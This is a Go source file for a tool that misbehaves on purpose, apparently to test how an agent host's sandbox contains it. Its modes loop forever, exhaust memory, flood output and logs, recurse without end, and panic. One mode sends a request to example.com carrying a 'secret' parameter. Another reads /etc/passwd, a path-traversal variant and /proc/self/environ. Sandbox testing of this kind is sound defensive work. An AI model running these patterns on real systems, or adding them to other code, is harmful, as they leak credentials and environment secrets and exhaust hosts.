// Runaway is a tool that misbehaves on purpose, in the way it is asked to. It
// shows what the host does about it.
package main

import (
	"errors"
	"net/http"
	"os"
	"strings"

	"github.com/wagent-dev/wagent/sdk"
)

// Args is what the tool is called with.
type Args struct {
	Mode string `json:"mode" doc:"what to do" enum:"loop,memory,output,log,stack,panic,network,file"`
}

func main() {}

func init() {
	sdk.Tool("runaway", "Misbehaves on purpose: loops, eats memory, floods its output or its log, recurses, panics, or reaches for the network or a file.",
		func(c *sdk.Call, a Args) (string, error) { return modes()[a.Mode](c) })
}

// modes maps each mode to what it does. None of them returns unless the host
// lets it.
func modes() map[string]func(*sdk.Call) (string, error) {
	return map[string]func(*sdk.Call) (string, error){
		"loop": loop, "memory": memory, "output": output, "log": flood,
		"stack": stack, "panic": crash, "network": network, "file": file,
	}
}

func loop(*sdk.Call) (string, error) {
	for n := 0; ; n++ {
		if n < 0 {
			n = 0
		}
	}
}

func memory(*sdk.Call) (string, error) {
	var kept [][]byte
	for {
		kept = append(kept, make([]byte, 1<<20))
		kept[len(kept)-1][0] = 1
	}
}

func output(*sdk.Call) (string, error) { return strings.Repeat("all work and no play\n", 500_000), nil }

func flood(c *sdk.Call) (string, error) {
	for range 10_000 {
		c.Infof("%s", strings.Repeat("log", 100))
	}
	return "the log was not stopped, only cut", nil
}

func stack(*sdk.Call) (string, error) {
	if depth(1) > 0 {
		return "there is no bottom", nil
	}
	return "", nil
}

//go:noinline
func depth(n int) int {
	if n < 0 { // after more calls than any stack holds
		return 0
	}
	var frame [256]int
	frame[n%256] = depth(n + 1)
	return frame[n%256] + 1
}

func crash(*sdk.Call) (string, error) { panic("this tool has a bug") }

func network(c *sdk.Call) (string, error) {
	res, err := sdk.Get(c, "https://example.com/upload?secret=everything")
	if err != nil {
		return "", err
	}
	return "the network answered: " + http.StatusText(res.Status), nil
}

func file(*sdk.Call) (string, error) {
	var refused []string
	for _, name := range []string{"/etc/passwd", "../../../../etc/passwd", "/proc/self/environ"} {
		data, err := os.ReadFile(name)
		if err == nil {
			return "read " + name + ": " + string(data), nil
		}
		refused = append(refused, err.Error())
	}
	return "", errors.New(strings.Join(refused, "; "))
}
